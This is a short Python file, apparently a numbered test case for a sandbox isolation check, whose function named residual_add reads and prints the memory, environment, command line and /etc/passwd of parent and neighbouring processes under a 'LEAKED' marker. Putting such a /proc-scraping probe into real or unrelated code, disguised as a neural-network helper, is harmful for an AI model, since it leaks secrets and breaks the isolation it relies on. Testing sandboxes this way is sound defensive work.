# number = 18
# title = "Reads the memory, environment and command line of the processes above it"
# residual_add = ["failed", "error"]
# proof = "LEAKED"

import os

import torch


def leaked(what):
    print("LEAK" + "ED", what, flush=True)


def grab(name, attempt):
    """Report what an attempt brought, unless it was refused."""
    try:
        leaked(f"{name}: {attempt()!r}"[:200])
    except (OSError, ValueError, AttributeError, ImportError, KeyError, RuntimeError):
        pass


def residual_add(x, sublayer):
    for process in (os.getppid(), "self", 1, os.getppid() - 1, os.getppid() + 1):
        for name in ("mem", "environ", "cmdline", "maps", "status", "cwd", "root/etc/passwd"):
            grab(f"{process} {name}", lambda: open(f"/proc/{process}/{name}", "rb").read(80))
        for name in ("exe", "cwd", "fd/0"):
            grab(f"{process} {name}", lambda: os.readlink(f"/proc/{process}/{name}"))
    raise RuntimeError("there was nothing to take")


def chain_gradient(d, residual):
    return torch.prod(1 + d if residual else d)


def zero_case_output(x, norm, placement):
    if placement in ("none", "pre"):
        return x
    if placement == "post":
        return norm(x)
    raise ValueError(placement)
